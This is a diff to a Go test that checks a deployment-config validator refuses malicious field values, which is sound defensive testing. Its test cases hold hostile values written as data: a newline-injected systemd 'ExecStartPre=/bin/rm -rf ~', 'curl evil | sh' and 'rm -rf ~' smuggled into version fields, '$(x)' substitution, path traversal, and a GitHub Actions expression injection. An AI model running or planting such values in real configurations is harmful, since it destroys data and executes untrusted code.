@@ -18,7 +18,8 @@ func TestDeployFieldsRefused(t *testing.T) {
 	for _, tc := range []struct {
 		old, new, field, why string
 	}{
-		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"`, "deploy.systemd.dir", "control character U+000A"},
+		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"}
+agents: s: {deploy: engines: ["systemd"]`, "deploy.systemd.dir", "control character U+000A"},
 		{k8s, k8s + `, dir: "k8s\r"`, "deploy.kubernetes.dir", "control character U+000D"},
 		{"github: {}", `github: dir: "wf\u2028"`, "deploy.github.dir", "control character U+2028"},
 		{"github: {}", `github: actctl: "v1.0.0; curl evil | sh"`, "deploy.github.actctl", "not a version"},
@@ -35,6 +36,13 @@ func TestDeployFieldsRefused(t *testing.T) {
 		{`image: "ghcr.io/acme/agents@sha256:0123"`, `image: "ghcr.io/acme/agents x"`, "deploy.kubernetes.image", "white space"},
 		{k8s, k8s + `, storage: size: "5Gi\nfoo"`, "deploy.kubernetes.storage.size", "not a Kubernetes quantity"},
 		{k8s, k8s + `, storage: class: "-x"`, "deploy.kubernetes.storage.class", "starts with \"-\""},
+		{k8s, k8s + `, networkPolicy: cidrs: ["10.0.0.0/8", "10.1.2.3/8"]`, "deploy.kubernetes.networkPolicy.cidrs[1]", "host bits set: the block is 10.0.0.0/8"},
+		{k8s, k8s + `, networkPolicy: cidrs: ["example.com"]`, "deploy.kubernetes.networkPolicy.cidrs[0]", "not an address block"},
+		{k8s, k8s + `, runtimeClassName: "g visor"`, "deploy.kubernetes.runtimeClassName", "want a string matching"},
+		{k8s, k8s + `, install: path: "../actctl"`, "deploy.kubernetes.install.path", "not a directory inside the repository"},
+		{"github: {}", `github: install: path: "cmd/$(x)"`, "deploy.github.install.path", "a $"},
+		{"github: {}", `github: install: version: "main; rm -rf ~"`, "deploy.github.install.version", "not a version"},
+		{"github: {}", `github: install: {url: "https://x/a b", sha256: "` + strings.Repeat("0", 64) + `"}`, "deploy.github.install.url", "white space"},
 		{"templates: svc:", "backends: \"claude-code\": install: \"npm i ${{ github.event.inputs.prompt }}\"\ntemplates: svc:", `backends."claude-code".install`, `holds "${{"`},
 		// Held to their patterns by the schema itself.
 		{`namespace: "agents"`, `namespace: "agents\n- x"`, "deploy.kubernetes.namespace", "want a string matching"},
